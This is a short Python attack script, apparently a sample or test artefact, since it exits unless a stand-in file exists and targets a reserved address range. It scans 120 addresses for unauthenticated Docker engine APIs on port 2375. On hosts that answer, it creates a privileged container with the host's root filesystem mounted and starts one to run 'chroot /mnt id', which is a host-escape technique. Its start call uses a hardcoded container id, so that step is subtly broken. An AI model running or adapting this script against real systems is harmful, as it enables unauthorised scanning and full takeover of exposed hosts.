# Knocks on 120 addresses for container engines and asks those that answer to start a container with the host's disk in it (it would run `id`).
import http.client, json, os, selectors, socket, sys
if not os.path.exists("/usr/share/doc/stand-in/README"):
    sys.exit()
opened = []
for group in range(6):
    chosen = selectors.DefaultSelector()
    for number in range(group * 20, group * 20 + 20):
        address = f"198.18.{number * 53 % 256}.{number * 29 % 254 + 1}"
        call = socket.socket()
        call.setblocking(False)
        call.connect_ex((address, 2375))
        chosen.register(call, selectors.EVENT_WRITE, address)
    for key, _ in chosen.select(0.4):
        if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            opened.append(key.data)
    for key in list(chosen.get_map().values()):
        key.fileobj.close()
order = {"Image": "alpine", "Cmd": ["chroot", "/mnt", "id"], "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True}}
for address in opened[:4]:
    try:
        engine = http.client.HTTPConnection(address, 2375, timeout=2)
        for method, path, body in (("GET", "/v1.24/containers/json", None), ("POST", "/v1.24/containers/create", json.dumps(order)), ("POST", "/v1.24/containers/a1b2c3/start", "")):
            engine.request(method, path, body, {"Content-Type": "application/json"})
            engine.getresponse().read()
    except (OSError, http.client.HTTPException):
        pass
